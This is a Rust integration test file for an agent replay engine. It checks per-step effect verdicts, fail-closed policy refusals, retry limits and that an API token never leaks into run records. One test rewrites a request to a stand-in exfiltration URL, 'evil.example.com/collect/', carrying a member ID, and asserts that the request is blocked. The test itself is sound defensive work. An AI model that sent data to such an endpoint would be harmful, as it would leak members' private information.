//! Operators beside the browser, end to end: one capability mixes an `http` read, UI steps in
//! Chromium, a `command` and an `http` creation, against the real fixture, with the real HTTP
//! client and a real child process; its run record carries every step's effect verdict.

use std::sync::Arc;

use cua_artifact::{Capability, EffectVerdict, FailureCode, RunStatus};
use cua_operators::{HttpServiceClient, ProcessCommandRunner};
use cua_policy::PolicyEngine;
use cua_replay::{Operators, PreparedCapability, RunRequest};
use memberdesk::Variant;

use crate::live::Live;
use crate::support::{inputs, policy_config, root};

const API_TOKEN_SECRET: &str = "CUA_SECRET_COREBANK_API_TOKEN";

/// The mixed capability, bound to the fixture and sealed.
fn account_review(live: &Live) -> PreparedCapability {
    let path = root().join("tests/fixtures/operators/corebank.member.account_review@1.0.0.yaml");
    let base = Capability::from_yaml(&std::fs::read_to_string(path).unwrap())
        .unwrap()
        .sealed();
    PreparedCapability::bind(base, None, Some(&live.base_url()), None).unwrap()
}

/// A live fixture whose policy declares the member-risk tool, with the API token as a secret
/// and both operators wired.
async fn start() -> Live {
    let mut live = Live::start(Variant::FirstValley).await;
    let mut config = policy_config();
    config.commands.allowed.push(cua_artifact::DeclaredCommand {
        name: "member-risk".to_owned(),
        path: "tests/fixtures/operators/member-risk".to_owned(),
    });
    live.harness.policy = PolicyEngine::from_config(&config)
        .unwrap()
        .with_command_base(&root());
    live.harness.policy_config = config;
    live.harness
        .secrets
        .insert(API_TOKEN_SECRET.to_owned(), "md-api-token".to_owned());
    live.harness.config.operators = Operators {
        http: Some(Arc::new(HttpServiceClient::new().unwrap())),
        command: Some(Arc::new(ProcessCommandRunner::new())),
    };
    live.sign_on().await;
    live
}

fn verdicts(report: &cua_replay::ReplayReport) -> Vec<(String, String, bool, EffectVerdict)> {
    report
        .steps
        .iter()
        .map(|step| {
            (
                step.step.clone(),
                step.action.as_str().to_owned(),
                step.dispatched,
                step.verdict,
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_capability_mixes_http_ui_and_command_steps_with_per_step_verdicts() {
    let live = start().await;
    live.fixture.handle().reset();
    let request = RunRequest::new(
        account_review(&live),
        inputs(&[("member_id", "12345"), ("note", "Savings reviewed")]),
    );
    let (report, run_dir) = live.run(request).await;
    assert_eq!(
        report.result.status,
        RunStatus::Success,
        "{}: {:?}",
        run_dir.display(),
        report.result
    );
    use EffectVerdict::*;
    let expect: Vec<(String, String, bool, EffectVerdict)> = [
        // Opening the entrypoint is a navigation with nothing to prove it.
        ("entrypoint", "navigate", true, Unverifiable),
        ("read_member", "http", true, NotApplicable),
        ("enter_member_id", "type", true, Confirmed),
        ("submit_search", "click", true, Confirmed),
        ("read_balance", "extract", false, NotApplicable),
        ("score_balance", "command", true, NotApplicable),
        ("add_note", "http", true, Confirmed),
    ]
    .into_iter()
    .map(|(step, action, dispatched, verdict)| {
        (step.to_owned(), action.to_owned(), dispatched, verdict)
    })
    .collect();
    assert_eq!(verdicts(&report), expect);
    let outputs: Vec<(String, String)> = report
        .result
        .outputs
        .iter()
        .map(|(name, value)| (name.clone(), value.to_string()))
        .collect();
    insta::assert_debug_snapshot!("account_review_outputs", outputs);
    // The 201 was the service's own word, and the note is really there.
    assert_eq!(
        live.fixture.handle().note_texts("12345"),
        vec!["Savings reviewed".to_owned()]
    );
    // The run record on disk carries the same verdicts, and no sink holds the API token.
    let record = std::fs::read_to_string(run_dir.join("run_record.json")).unwrap();
    let record: serde_json::Value = serde_json::from_str(&record).unwrap();
    let recorded: Vec<(String, String)> = record["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|step| {
            (
                step["step_id"].as_str().unwrap_or_default().to_owned(),
                step["effect"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    insta::assert_debug_snapshot!("account_review_record_verdicts", recorded);
    for entry in walk(&run_dir) {
        let bytes = std::fs::read(&entry).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains("md-api-token"),
            "{} holds the API token",
            entry.display()
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn operator_steps_fail_closed() {
    let live = start().await;
    live.fixture.handle().reset();

    // A member the API does not know: the read answers 404, which the step did not expect.
    let request = RunRequest::new(
        account_review(&live),
        inputs(&[("member_id", "99999"), ("note", "x")]),
    );
    let (report, _) = live.run(request).await;
    let error = report.result.error.as_ref().unwrap();
    assert_eq!(error.code, FailureCode::ActionFailed);
    assert!(error.message.contains("answered 404"), "{}", error.message);
    let steps: Vec<(&str, bool, EffectVerdict)> = report
        .steps
        .iter()
        .map(|step| (step.step.as_str(), step.dispatched, step.verdict))
        .collect();
    assert_eq!(
        steps,
        [
            ("entrypoint", true, EffectVerdict::Unverifiable),
            ("read_member", true, EffectVerdict::NotApplicable),
        ]
    );

    // An undeclared executable never starts: the policy refuses before anything runs.
    let mut prepared = account_review(&live);
    let mut capability = prepared.capability.clone();
    for step in &mut capability.steps {
        if let cua_artifact::Action::Command(call) = &mut step.action {
            call.executable = "not-declared".to_owned();
        }
    }
    prepared.capability = capability.sealed();
    prepared.overlay = None;
    let (report, _) = live
        .run(RunRequest::new(
            prepared,
            inputs(&[("member_id", "12345"), ("note", "x")]),
        ))
        .await;
    let error = report.result.error.as_ref().unwrap();
    assert_eq!(error.code, FailureCode::PolicyDenied, "{}", error.message);
    assert!(error.message.contains("not-declared"), "{}", error.message);
    let refused = report.steps.last().unwrap();
    assert_eq!(
        (refused.step.as_str(), refused.dispatched, refused.verdict),
        ("score_balance", false, EffectVerdict::NotApplicable)
    );
    // Nothing after the refusal ran: no note was made.
    assert!(live.fixture.handle().note_texts("12345").is_empty());

    // A URL off the allowlist is refused like a navigation would be.
    let mut prepared = account_review(&live);
    let mut capability = prepared.capability.clone();
    if let cua_artifact::Action::Http(call) = &mut capability.steps[0].action {
        call.url = "http://evil.example.com/collect/{$input: member_id}".to_owned();
    }
    prepared.capability = capability.sealed();
    prepared.overlay = None;
    let (report, _) = live
        .run(RunRequest::new(
            prepared,
            inputs(&[("member_id", "12345"), ("note", "x")]),
        ))
        .await;
    let error = report.result.error.as_ref().unwrap();
    assert_eq!(
        error.code,
        FailureCode::NavigationBlocked,
        "{}",
        error.message
    );
    let refused = report.steps.last().unwrap();
    assert_eq!(
        (refused.step.as_str(), refused.dispatched, refused.verdict),
        ("read_member", false, EffectVerdict::NotApplicable)
    );
}

fn walk(directory: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(directory).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files.extend(walk(&path));
        } else {
            files.push(path);
        }
    }
    files
}

/// The route planner's recovery policy, applied: an unreachable service is asked twice for a
/// read (same request, same provider) and once for a mutation, and never through the browser.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_is_retried_once_on_the_same_provider_and_a_mutation_never() {
    // A loopback port nothing listens on.
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        format!("http://{}", listener.local_addr().unwrap())
    };
    let check = |method: cua_artifact::HttpMethod, expect_attempts: u32, expect: EffectVerdict| {
        let closed = closed.clone();
        async move {
            let mut harness = crate::support::Harness::new();
            harness.config.operators = Operators {
                http: Some(Arc::new(HttpServiceClient::new().unwrap())),
                command: None,
            };
            harness
                .secrets
                .insert(API_TOKEN_SECRET.to_owned(), "md-api-token".to_owned());
            let path =
                root().join("tests/fixtures/operators/corebank.member.account_review@1.0.0.yaml");
            let mut base = Capability::from_yaml(&std::fs::read_to_string(path).unwrap()).unwrap();
            base.steps.truncate(1);
            base.outputs.truncate(1);
            // The recording surface's one page lives here.
            base.policy.allowed_domains.push("127.0.0.1:9".to_owned());
            if let cua_artifact::Action::Http(call) = &mut base.steps[0].action {
                call.method = method;
            }
            let prepared =
                PreparedCapability::bind(base.sealed(), None, Some(&closed), None).unwrap();
            let surface = crate::fake::FakeSurface::default();
            let (report, run_dir) = harness
                .run(
                    &surface,
                    RunRequest::new(prepared, inputs(&[("member_id", "12345"), ("note", "x")])),
                )
                .await;
            let report = report.unwrap();
            let error = report.result.error.as_ref().unwrap();
            assert_eq!(error.code, FailureCode::SurfaceUnavailable, "{error:?}");
            // The entrypoint, then the request's attempts.
            assert_eq!(report.dispatches, 1 + expect_attempts, "{method:?}");
            assert_eq!(report.steps.last().unwrap().verdict, expect, "{method:?}");
            // The browser was asked for nothing but the entrypoint.
            let dispatched: Vec<String> = surface
                .calls()
                .into_iter()
                .filter(|call| call.starts_with("dispatch"))
                .collect();
            assert_eq!(dispatched.len(), 1, "{dispatched:?}");
            let trace = std::fs::read_to_string(run_dir.join("trace.jsonl")).unwrap();
            let http_dispatches = trace
                .lines()
                .filter(|line| line.contains("\"dispatch\"") && line.contains("\"http\""))
                .count();
            assert_eq!(http_dispatches, expect_attempts as usize, "{trace}");
        }
    };
    check(
        cua_artifact::HttpMethod::Get,
        2,
        EffectVerdict::NotApplicable,
    )
    .await;
    check(
        cua_artifact::HttpMethod::Post,
        1,
        EffectVerdict::SuspectedNoop,
    )
    .await;
}
